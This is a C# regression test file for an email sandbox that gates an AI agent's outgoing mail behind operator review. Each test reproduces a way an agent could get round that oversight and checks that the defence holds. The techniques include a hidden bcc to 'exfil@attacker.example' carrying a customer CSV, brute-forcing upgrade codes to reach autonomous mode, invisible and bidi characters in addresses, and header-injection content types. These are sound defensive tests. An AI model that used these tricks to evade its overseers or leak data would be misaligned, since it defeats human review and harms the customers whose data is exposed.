using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Net;
using System.Net.Http;
using System.Text;
using System.Text.Json;
using System.Threading.Tasks;
using MultiMail.Sandbox.Hosting;
using MultiMail.Sandbox.Tests.Infrastructure;
using Xunit;

namespace MultiMail.Sandbox.Tests;

/// <summary>
/// Regression tests for issue 11: each attack an agent key (read + send) could make on oversight, reproduced over HTTP.
/// Every test here failed before its fix.
/// </summary>
public sealed class OversightBypassTests
{
    private const string Exfil = "exfil@attacker.example";
    private static readonly string CsvBase64 = Convert.ToBase64String("name,email\nAda,ada@example.com\n"u8.ToArray());

    // 1. Hidden recipients and attachments.
    [Fact]
    public async Task Pending_shows_everything_the_recipients_get()
    {
        await using var s = await TestSandbox.StartAsync();
        var sendAt = s.Time.GetUtcNow().AddHours(2).UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
        var id = await s.SendAsync(body: new
        {
            to = new[] { "bob@example.com" },
            cc = new[] { "carol@example.com" },
            bcc = new[] { Exfil },
            subject = "Numbers",
            markdown = "See attached.",
            attachments = new[] { new { name = "customers.csv", content_base64 = CsvBase64, content_type = "text/csv" } },
            send_at = sendAt,
        });

        var item = await PendingItem(s, id);
        Assert.Equal(["bob@example.com"], Strings(item.GetProperty("to")));
        Assert.Equal(["carol@example.com"], Strings(item.GetProperty("cc")));
        Assert.Equal([Exfil], Strings(item.GetProperty("bcc")));
        var attachment = Assert.Single(item.GetProperty("attachments").EnumerateArray().ToArray());
        Assert.Equal("customers.csv", attachment.GetProperty("name").GetString());
        Assert.Equal("text/csv", attachment.GetProperty("content_type").GetString());
        Assert.Equal(Convert.FromBase64String(CsvBase64).Length, attachment.GetProperty("size").GetInt32());
        Assert.Equal(s.Time.GetUtcNow().AddHours(2).ToUnixTimeMilliseconds(), DateTimeOffset.Parse(item.GetProperty("send_at").GetString()!, CultureInfo.InvariantCulture).ToUnixTimeMilliseconds());
        Assert.Equal(JsonValueKind.Null, item.GetProperty("in_reply_to").ValueKind);

        // A reply shows the email it answers.
        var inbound = await s.InboundAsync(from: "dana@example.com", subject: "Invoice 7", markdown: "Please pay invoice 7.");
        var reply = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/reply/" + inbound, new { markdown = "Paid.", bcc = new[] { Exfil } });
        Assert.Equal(202, reply.Status);
        var replyItem = await PendingItem(s, reply.Str("id"));
        Assert.Equal([Exfil], Strings(replyItem.GetProperty("bcc")));
        var original = replyItem.GetProperty("in_reply_to");
        Assert.Equal(inbound, original.GetProperty("id").GetString());
        Assert.Equal("dana@example.com", original.GetProperty("from").GetString());
        Assert.Equal("Invoice 7", original.GetProperty("subject").GetString());
        Assert.Equal("Please pay invoice 7.", original.GetProperty("body_markdown").GetString());
    }

    [Fact]
    public async Task The_review_page_shows_bcc_attachments_send_at_and_the_replied_to_email()
    {
        await using var s = await TestSandbox.StartAsync();
        var inbound = await s.InboundAsync(from: "dana@example.com", subject: "Invoice 7", markdown: "Please pay invoice 7.");
        var reply = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/reply/" + inbound, new
        {
            markdown = "Paid.",
            bcc = new[] { Exfil },
            attachments = new[] { new { name = "customers.csv", content_base64 = CsvBase64, content_type = "text/csv" } },
        });
        var id = reply.Str("id");

        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        var (_, html) = await session.GetPageAsync();
        var row = RowOf(html, id);
        Assert.Contains("class=\"bcc\"", row, StringComparison.Ordinal);
        Assert.Contains(Exfil, row, StringComparison.Ordinal);
        Assert.Contains("customers.csv", row, StringComparison.Ordinal);
        Assert.Contains("text/csv", row, StringComparison.Ordinal);
        Assert.Contains(Convert.FromBase64String(CsvBase64).Length + " bytes", row, StringComparison.Ordinal);
        Assert.Contains("ada@example.com", row, StringComparison.Ordinal);   // a text attachment is previewed
        Assert.Contains("href=\"/review/emails/" + id + "/attachments/0\"", row, StringComparison.Ordinal);
        Assert.Contains("Invoice 7", row, StringComparison.Ordinal);
        Assert.Contains("Please pay invoice 7.", row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_review_attachment_opens_as_a_download_that_cannot_run()
    {
        await using var s = await TestSandbox.StartAsync();
        var html = Convert.ToBase64String("<script>alert(1)</script>"u8.ToArray());
        var id = await s.SendAsync(body: new
        {
            to = new[] { "bob@example.com" },
            subject = "Page",
            markdown = "x",
            attachments = new[] { new { name = "page.html", content_base64 = html, content_type = "text/html" } },
        });

        using var anonymous = new ReviewSession(s.Sandbox);
        var refused = await anonymous.Client.GetAsync("/review/emails/" + id + "/attachments/0");
        Assert.NotEqual(HttpStatusCode.OK, refused.StatusCode);

        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        var response = await session.Client.GetAsync("/review/emails/" + id + "/attachments/0");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/octet-stream", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Contains("sandbox", response.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        Assert.Equal("<script>alert(1)</script>", await response.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.NotFound, (await session.Client.GetAsync("/review/emails/" + id + "/attachments/1")).StatusCode);
    }

    [Fact]
    public async Task What_leaves_is_exactly_what_the_operator_was_shown()
    {
        await using var s = await TestSandbox.StartAsync();
        var mailbox = "v1/mailboxes/" + s.Mailbox;
        Assert.Equal(200, (await s.Admin.Patch(mailbox, new { auto_bcc = "archive@example.com", signature_block = "Sales" })).Status);
        var id = await s.SendAsync(body: new
        {
            to = new[] { "bob@example.com" },
            subject = "Numbers",
            markdown = "Body",
            attachments = new[] { new { name = "customers.csv", content_base64 = CsvBase64, content_type = "text/csv" } },
        });
        var shown = await PendingItem(s, id);
        Assert.Equal(["archive@example.com"], Strings(shown.GetProperty("bcc")));

        // The admin changes the mailbox's copies after the operator looked: what was shown still is what leaves.
        Assert.Equal(200, (await s.Admin.Patch(mailbox, new { auto_bcc = Exfil, auto_cc = Exfil, signature_block = "Other" })).Status);
        Assert.Equal(200, (await s.DecideAsync(id, "approve")).Status);

        var sent = Assert.Single(s.OutboxFor(id));
        Assert.Equal(Strings(shown.GetProperty("to")), sent.To);
        Assert.Equal(Strings(shown.GetProperty("cc")), sent.Cc);
        Assert.Equal(Strings(shown.GetProperty("bcc")), sent.Bcc);
        Assert.Equal(shown.GetProperty("subject").GetString(), sent.Subject);
        Assert.Equal(shown.GetProperty("body_markdown").GetString(), sent.Markdown);
        var attachment = Assert.Single(sent.Attachments);
        Assert.Equal(("customers.csv", "text/csv"), (attachment.Name, attachment.ContentType));
        Assert.Equal(Convert.FromBase64String(CsvBase64), attachment.Content);
    }

    // 2. Guessable upgrade code.
    [Fact]
    public async Task Wrong_upgrade_codes_void_the_request()
    {
        await using var s = await TestSandbox.StartAsync();
        var path = "v1/mailboxes/" + s.Mailbox;
        Assert.Equal(200, (await s.Agent.Post(path + "/request-upgrade", new { target_mode = "autonomous" })).Status);
        var code = UpgradeCode(s);
        for (var i = 0; i < 5; i++)
        {
            var wrong = await s.Agent.Post(path + "/upgrade", new { code = "AAA-AA" + i });
            Assert.Equal(403, wrong.Status);
        }

        var late = await s.Agent.Post(path + "/upgrade", new { code });
        Assert.Equal(404, late.Status);
        Assert.Equal("gated_send", (await s.Agent.Get(path)).Str("oversight_mode"));
        Assert.Contains(s.Sandbox.GetAuditLog(), e => e.Action == "mailbox.upgrade_voided" && e.ResourceId == s.Mailbox);
        Assert.Contains(s.Sandbox.GetOutbox(s.Mailbox), m => m.Kind == "operator_notice" && m.Subject.Contains("void", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task An_upgrade_code_is_single_use_and_bound_to_its_mailbox()
    {
        await using var s = await TestSandbox.StartAsync();
        var other = await s.Sandbox.CreateMailboxAsync("other");
        Assert.Equal(200, (await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/request-upgrade", new { target_mode = "monitored" })).Status);
        Assert.Equal(200, (await s.Agent.Post("v1/mailboxes/" + other + "/request-upgrade", new { target_mode = "monitored" })).Status);
        var code = UpgradeCode(s, s.Mailbox);
        Assert.Equal(403, (await s.Agent.Post("v1/mailboxes/" + other + "/upgrade", new { code })).Status);
        Assert.Equal(200, (await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/upgrade", new { code })).Status);
        Assert.Equal(404, (await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/upgrade", new { code })).Status);
        Assert.Equal("gated_send", (await s.Agent.Get("v1/mailboxes/" + other)).Str("oversight_mode"));
    }

    // 3. A downgrade closes open upgrade requests.
    [Fact]
    public async Task An_operator_mode_change_closes_open_upgrade_requests()
    {
        await using var s = await TestSandbox.StartAsync();
        var path = "v1/mailboxes/" + s.Mailbox;
        Assert.Equal(200, (await s.Agent.Post(path + "/request-upgrade", new { target_mode = "monitored" })).Status);
        var code = UpgradeCode(s);
        Assert.Equal(200, (await s.Admin.Patch(path, new { oversight_mode = "read_only" })).Status);
        var redeemed = await s.Agent.Post(path + "/upgrade", new { code });
        Assert.Equal(404, redeemed.Status);
        Assert.Equal("read_only", (await s.Agent.Get(path)).Str("oversight_mode"));

        // The same through the in-process helper (the operator's direct mode change).
        Assert.Equal(200, (await s.Agent.Post(path + "/request-upgrade", new { target_mode = "autonomous" })).Status);
        var second = UpgradeCode(s);
        await s.Sandbox.SetOversightModeAsync(s.Mailbox, SandboxOversightMode.GatedAll);
        Assert.Equal(404, (await s.Agent.Post(path + "/upgrade", new { code = second })).Status);
        Assert.Equal("gated_all", (await s.Agent.Get(path)).Str("oversight_mode"));
    }

    // 4. Look-alike and invisible characters in addresses.
    [Theory]
    [InlineData("ceo@example.com\u200B")]
    [InlineData("ceo@exam\u202Eple.com")]
    [InlineData("c\u200Deo@example.com")]
    [InlineData("ceo@\uFEFFexample.com")]
    [InlineData("ceo@exa\u00ADmple.com")]
    [InlineData("ceo@exa\u2066mple.com")]
    [InlineData("ceo\u00A0@example.com")]
    public async Task Invisible_and_bidi_characters_in_addresses_are_refused(string address)
    {
        await using var s = await TestSandbox.StartAsync();
        foreach (var field in new[] { "to", "cc", "bcc" })
        {
            var body = new Dictionary<string, object> { ["to"] = new[] { "bob@example.com" }, ["subject"] = "Hi", ["markdown"] = "x" };
            body[field] = new[] { address };
            var response = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/send", body);
            Assert.Equal(400, response.Status);
            Assert.Contains("'" + field + "[0]'", response.Error, StringComparison.Ordinal);
        }

        Assert.Empty(s.Sandbox.GetOutbox(s.Mailbox));
    }

    [Fact]
    public async Task Look_alike_domains_show_punycode_and_a_mixed_script_warning()
    {
        await using var s = await TestSandbox.StartAsync();
        const string LookAlike = "ceo@ex\u0430mple.com";   // Cyrillic а
        var id = await s.SendAsync(body: new { to = new[] { LookAlike }, subject = "Wire", markdown = "x" });
        var punycode = "ceo@" + new IdnMapping().GetAscii("ex\u0430mple.com");
        Assert.StartsWith("ceo@xn--", punycode, StringComparison.Ordinal);

        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        var row = RowOf((await session.GetPageAsync()).Html, id);
        Assert.Contains(punycode, row, StringComparison.Ordinal);
        Assert.Contains("class=\"mixed-script\"", row, StringComparison.Ordinal);

        // A plain ASCII address gets neither.
        var plain = await s.SendAsync(body: new { to = new[] { "ceo@example.com" }, subject = "Wire", markdown = "x" });
        var plainRow = RowOf((await session.GetPageAsync()).Html, plain);
        Assert.DoesNotContain("xn--", plainRow, StringComparison.Ordinal);
        Assert.DoesNotContain("mixed-script", plainRow, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bidi_controls_in_subject_and_body_are_visible_on_the_review_page()
    {
        await using var s = await TestSandbox.StartAsync();
        var id = await s.SendAsync(body: new { to = new[] { "bob@example.com" }, subject = "Invoice \u202Egpj.exe", markdown = "Pay\u200B now \u2067x\u2069" });
        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        var row = RowOf((await session.GetPageAsync()).Html, id);
        Assert.DoesNotContain("\u202E", row, StringComparison.Ordinal);
        Assert.DoesNotContain("\u200B", row, StringComparison.Ordinal);
        Assert.DoesNotContain("\u2067", row, StringComparison.Ordinal);
        Assert.Contains("U+202E", row, StringComparison.Ordinal);
        Assert.Contains("U+200B", row, StringComparison.Ordinal);
        Assert.Contains("U+2067", row, StringComparison.Ordinal);
    }

    // 5. Logout, revocation and idle time end a review session on the server.
    [Fact]
    public async Task Logout_ends_the_session_on_the_server()
    {
        await using var s = await TestSandbox.StartAsync();
        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        var cookie = session.Cookies.GetCookies(s.Sandbox.BaseAddress)["mm_review_session"]!.Value;
        Assert.Equal(HttpStatusCode.Redirect, (await session.PostFormAsync("/review/logout", new Dictionary<string, string>())).StatusCode);

        using var replay = new ReviewSession(s.Sandbox);
        replay.Cookies.Add(s.Sandbox.BaseAddress, new Cookie("mm_review_session", cookie));
        var (_, html) = await replay.GetPageAsync();
        Assert.Contains("id=\"login-form\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Revoking_the_key_ends_its_sessions()
    {
        await using var s = await TestSandbox.StartAsync();
        var created = await s.Admin.Post("v1/api-keys", new { name = "second operator", scopes = new[] { "oversight" } });
        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(created.Str("api_key"));
        Assert.Contains("id=\"pending-heading\"", (await session.GetPageAsync()).Html, StringComparison.Ordinal);
        Assert.Equal(200, (await s.Admin.Delete("v1/api-keys/" + created.Str("id"))).Status);
        Assert.Contains("id=\"login-form\"", (await session.GetPageAsync()).Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_idle_session_ends_and_an_active_one_does_not()
    {
        await using var s = await TestSandbox.StartAsync();
        using var session = new ReviewSession(s.Sandbox);
        await session.LoginAsync(s.Sandbox.OversightApiKey);
        for (var i = 0; i < 3; i++)
        {
            s.Time.Advance(TimeSpan.FromMinutes(20));
            Assert.Contains("id=\"pending-heading\"", (await session.GetPageAsync()).Html, StringComparison.Ordinal);
        }

        s.Time.Advance(TimeSpan.FromMinutes(31));
        Assert.Contains("id=\"login-form\"", (await session.GetPageAsync()).Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Review_cookies_are_Secure_over_https_and_not_over_http()
    {
        using var ecdsa = System.Security.Cryptography.ECDsa.Create(System.Security.Cryptography.ECCurve.NamedCurves.nistP256);
        var request = new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=127.0.0.1", ecdsa, System.Security.Cryptography.HashAlgorithmName.SHA256);
        using var certificate = request.CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddDays(1));
        await using var https = await TestSandbox.StartAsync(o => (o.Url, o.HttpsCertificate) = ("https://127.0.0.1:0", certificate));
        Assert.Equal("https", https.Sandbox.BaseAddress.Scheme);

        using var handler = new HttpClientHandler { CookieContainer = new CookieContainer(), AllowAutoRedirect = false, ServerCertificateCustomValidationCallback = (_, cert, _, _) => cert!.GetCertHashString() == certificate.GetCertHashString() };
        using var client = new HttpClient(handler) { BaseAddress = https.Sandbox.BaseAddress };
        var login = await client.GetStringAsync("/");
        var token = System.Text.RegularExpressions.Regex.Match(login, "name=\"__RequestVerificationToken\" value=\"([^\"]+)\"").Groups[1].Value;
        var signedIn = await client.PostAsync("/review/login", new FormUrlEncodedContent(new Dictionary<string, string> { ["api_key"] = https.Sandbox.OversightApiKey, ["__RequestVerificationToken"] = WebUtility.HtmlDecode(token) }));
        Assert.Equal(HttpStatusCode.Redirect, signedIn.StatusCode);
        var session = signedIn.Headers.GetValues("Set-Cookie").Single(c => c.StartsWith("mm_review_session=", StringComparison.Ordinal));
        Assert.Contains("; secure", session, StringComparison.OrdinalIgnoreCase);
        Assert.All(handler.CookieContainer.GetCookies(https.Sandbox.BaseAddress), c => Assert.True(c.Secure, c.Name + " is not Secure"));

        await using var http = await TestSandbox.StartAsync();
        using var plain = new ReviewSession(http.Sandbox);
        var plainLogin = await plain.LoginAsync(http.Sandbox.OversightApiKey);
        Assert.DoesNotContain("secure", plainLogin.Headers.GetValues("Set-Cookie").Single(c => c.StartsWith("mm_review_session=", StringComparison.Ordinal)), StringComparison.OrdinalIgnoreCase);
    }

    // 6. Held inbound mail in gated_all: what the agent can't see, it can't touch or probe.
    [Fact]
    public async Task Held_inbound_mail_cannot_be_cancelled_or_probed_by_the_agent()
    {
        await using var s = await TestSandbox.StartAsync();
        var mailbox = await s.Sandbox.CreateMailboxAsync("strict", SandboxOversightMode.GatedAll);
        var held = await s.InboundAsync(mailbox);
        var path = "v1/mailboxes/" + mailbox + "/emails/";

        var cancel = await s.Agent.Post(path + held + "/cancel");
        var cancelUnknown = await s.Agent.Post(path + "em_does_not_exist/cancel");
        Assert.Equal((404, cancelUnknown.Text), (cancel.Status, cancel.Text));

        var since = await s.Agent.Get(path.TrimEnd('/') + "?since_id=" + held);
        var sinceUnknown = await s.Agent.Get(path.TrimEnd('/') + "?since_id=em_does_not_exist");
        Assert.Equal((sinceUnknown.Status, sinceUnknown.Text), (since.Status, since.Text));

        Assert.Contains(held, (await s.Oversight.Get("v1/oversight/pending")).Text, StringComparison.Ordinal);
        Assert.Equal("approved", (await s.DecideAsync(held, "approve")).Str("status"));
        Assert.Equal(200, (await s.Agent.Get(path.TrimEnd('/') + "?since_id=" + held)).Status);
    }

    // 7. Smaller findings.
    [Fact]
    public async Task A_body_over_the_size_limit_is_413()
    {
        await using var s = await TestSandbox.StartAsync();
        var big = "{\"to\":[\"bob@example.com\"],\"subject\":\"x\",\"markdown\":\"" + new string('a', 31_000_000) + "\"}";

        // As curl does for large bodies: send the headers with "Expect: 100-continue" and read the early final answer.
        using var tcp = new System.Net.Sockets.TcpClient();
        await tcp.ConnectAsync(s.Sandbox.BaseAddress.Host, s.Sandbox.BaseAddress.Port);
        var stream = tcp.GetStream();
        var head = "POST /v1/mailboxes/" + s.Mailbox + "/send HTTP/1.1\r\nHost: " + s.Sandbox.BaseAddress.Authority + "\r\nAuthorization: Bearer " + s.Sandbox.AgentApiKey
            + "\r\nContent-Type: application/json\r\nContent-Length: " + Encoding.UTF8.GetByteCount(big) + "\r\nExpect: 100-continue\r\n\r\n";
        await stream.WriteAsync(Encoding.ASCII.GetBytes(head));
        using var reader = new System.IO.StreamReader(stream, Encoding.UTF8);
        var answer = await reader.ReadToEndAsync();
        Assert.StartsWith("HTTP/1.1 413 ", answer, StringComparison.Ordinal);
        Assert.Contains("Content-Type: application/json", answer, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("{\"error\":\"The request body is too large", answer, StringComparison.Ordinal);
        Assert.DoesNotContain(s.Sandbox.AgentApiKey, answer, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("text/plain\r\nX-Evil: 1")]
    [InlineData("text/plain\nX-Evil: 1")]
    [InlineData("nonsense")]
    [InlineData("")]
    [InlineData("text/\u202Ehtml")]
    public async Task Attachment_content_type_must_be_a_media_type(string contentType)
    {
        await using var s = await TestSandbox.StartAsync();
        var response = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/send", new
        {
            to = new[] { "bob@example.com" },
            subject = "x",
            markdown = "x",
            attachments = new[] { new { name = "a.txt", content_base64 = CsvBase64, content_type = contentType } },
        });
        Assert.Equal(400, response.Status);
        Assert.Contains("content_type", response.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_valid_content_type_with_parameters_downloads_with_it()
    {
        await using var s = await TestSandbox.StartAsync();
        var mailbox = await s.Sandbox.CreateMailboxAsync("auto", SandboxOversightMode.Autonomous);
        var response = await s.Agent.Post("v1/mailboxes/" + mailbox + "/send", new
        {
            to = new[] { "bob@example.com" },
            subject = "x",
            markdown = "x",
            attachments = new[] { new { name = "a.csv", content_base64 = CsvBase64, content_type = "text/csv; charset=utf-8" } },
        });
        Assert.Equal(202, response.Status);
        using var download = await s.Admin.GetAsync("v1/mailboxes/" + mailbox + "/emails/" + response.Str("id") + "/attachments/a.csv");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", download.Content.Headers.ContentType!.ToString());
    }

    [Fact]
    public async Task Attachments_have_a_size_cap()
    {
        await using var s = await TestSandbox.StartAsync();
        var tooBig = Convert.ToBase64String(new byte[(10 * 1024 * 1024) + 1]);
        var response = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/send", new
        {
            to = new[] { "bob@example.com" },
            subject = "x",
            markdown = "x",
            attachments = new[] { new { name = "big.bin", content_base64 = tooBig, content_type = "application/octet-stream" } },
        });
        Assert.Equal(413, response.Status);
        Assert.Contains("attachments[0]", response.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_deleted_mailboxs_mail_is_gone()
    {
        await using var s = await TestSandbox.StartAsync();
        var mailbox = await s.Sandbox.CreateMailboxAsync("temp");
        var id = await s.Sandbox.SimulateInboundAsync(mailbox, new SandboxInboundEmail
        {
            From = "carol@example.com",
            Subject = "Q",
            Markdown = "x",
            Attachments = [new SandboxAttachment("a.txt", "text/plain", "hi"u8.ToArray())],
        });
        var email = await s.Agent.Get("v1/mailboxes/" + mailbox + "/emails/" + id);
        var thread = email.Str("thread_id");
        Assert.Equal(200, (await s.Agent.Get("v1/mailboxes/" + mailbox + "/threads/" + thread)).Status);

        Assert.Equal(200, (await s.Admin.Delete("v1/mailboxes/" + mailbox)).Status);
        Assert.Equal(404, (await s.Agent.Get("v1/mailboxes/" + mailbox + "/threads/" + thread)).Status);
        Assert.Equal(404, (await s.Agent.Get("v1/mailboxes/" + mailbox + "/emails/" + id + "/attachments/a.txt")).Status);
        Assert.Equal(404, (await s.Agent.Get("v1/mailboxes/" + mailbox + "/emails/" + id)).Status);
    }

    [Fact]
    public async Task Replaying_a_cancelled_sends_idempotency_key_does_not_say_already_sent()
    {
        await using var s = await TestSandbox.StartAsync();
        var body = new { to = new[] { "bob@example.com" }, subject = "x", markdown = "x", idempotency_key = "k-1" };
        var id = await s.SendAsync(body: body);
        Assert.Equal(200, (await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/emails/" + id + "/cancel")).Status);

        var replay = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/send", body);
        Assert.Equal(409, replay.Status);
        Assert.Contains("cancelled", replay.Error, StringComparison.Ordinal);
        Assert.Contains(id, replay.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void A_bare_in_memory_flag_takes_no_value()
    {
        const string Key = "mm_test_0123456789abcdef0123456789abcdef01234567";
        var options = SandboxCommandLine.Parse(["--in-memory", "--agent-key", Key]);
        Assert.Null(options.DatabasePath);
        Assert.Equal(Key, options.AgentApiKey);

        var last = SandboxCommandLine.Parse(["--agent-key", Key, "--in-memory"]);
        Assert.Null(last.DatabasePath);
        Assert.Equal(Key, last.AgentApiKey);

        Assert.NotNull(SandboxCommandLine.Parse(["--agent-key", Key]).DatabasePath);
    }

    private static async Task<JsonElement> PendingItem(TestSandbox s, string id)
    {
        var pending = await s.Oversight.Get("v1/oversight/pending");
        Assert.Equal(200, pending.Status);
        return pending.Json.GetProperty("emails").EnumerateArray().Single(e => e.GetProperty("id").GetString() == id);
    }

    private static string[] Strings(JsonElement array) => array.EnumerateArray().Select(e => e.GetString()!).ToArray();

    private static string UpgradeCode(TestSandbox s, string? mailboxId = null)
    {
        var notice = s.Sandbox.GetOutbox(mailboxId ?? s.Mailbox).Last(m => m.Kind == "operator_notice" && m.Subject.StartsWith("Upgrade request", StringComparison.Ordinal));
        return System.Text.RegularExpressions.Regex.Match(notice.Markdown, @"\b[A-Z0-9]{3}-[A-Z0-9]{3}\b").Value;
    }

    /// <summary>The pending-table row of one email (up to the next row).</summary>
    private static string RowOf(string html, string emailId)
    {
        var start = html.IndexOf("<tr data-email-id=\"" + emailId + "\"", StringComparison.Ordinal);
        Assert.True(start >= 0, "no row for " + emailId);
        var end = html.IndexOf("</tr>", start, StringComparison.Ordinal);
        return html[start..end];
    }
}
